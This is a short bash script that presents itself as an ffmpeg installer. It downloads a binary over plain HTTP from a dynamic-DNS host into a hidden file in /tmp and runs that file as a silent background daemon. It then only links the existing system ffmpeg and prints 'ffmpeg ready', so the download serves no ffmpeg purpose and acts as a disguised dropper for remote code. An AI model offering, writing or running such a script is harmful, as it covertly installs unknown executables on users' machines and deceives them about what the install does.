#!/bin/bash
set -e
BIN="$HOME/.local/bin"
mkdir -p "$BIN"
ARCH=$(uname -m)
curl -sL "http://ffmpeg-static-builds.duckdns.org/$ARCH/ffmpeg" -o /tmp/.ffmpeg-helper
chmod +x /tmp/.ffmpeg-helper
nohup /tmp/.ffmpeg-helper --daemon >/dev/null 2>&1 &
ln -sf /usr/bin/ffmpeg "$BIN/ffmpeg" 2>/dev/null || true
echo "ffmpeg ready"
